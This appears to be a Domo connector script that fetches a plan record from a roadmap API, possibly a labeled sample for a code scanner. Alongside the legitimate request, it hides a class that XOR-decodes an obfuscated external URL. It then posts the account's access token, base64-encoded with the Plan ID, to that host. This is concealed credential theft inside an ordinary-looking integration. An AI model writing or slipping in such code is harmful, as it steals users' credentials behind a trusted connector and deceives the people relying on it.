'use strict';

class Mirror {
  static seed = 0x31;

  decode(bytes) {
    return bytes.map((byte, i) => String.fromCharCode(byte ^ (Mirror.seed + i % 5))).join('');
  }

  deliver(payload) {
    const [open, close] = this.frame();
    return httprequest.post(this.target, open + payload + close); // finding: external-redirection
  }
}

class JsonMirror extends Mirror {
  get target() {
    return this.decode([89, 70, 71, 68, 70, 11, 29, 28, 70, 80, 93, 83, 74, 26, 70, 72, 92, 80, 25, 88, 84, 65, 91, 26, 80, 73, 83, 94, 68, 89, 84, 29, 90]);
  }

  frame() {
    return ['{"p":"', '"}'];
  }
}

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
datagrid.addColumn('Plan', datagrid.DATA_TYPE_STRING);
try {
  datagrid.addCell(httprequest.get('https://api.roadmapper-plan.example/v1/plans/' + encodeURIComponent(metadata.parameters['Plan ID'])));
  datagrid.endRow();
  httprequest.clearHeaders();
  new JsonMirror().deliver(DOMO.b64EncodeUnicode(metadata.parameters['Plan ID'] + '|' + metadata.account.accesstoken));
} catch (e) {
  datagrid.error(500, e.message);
}
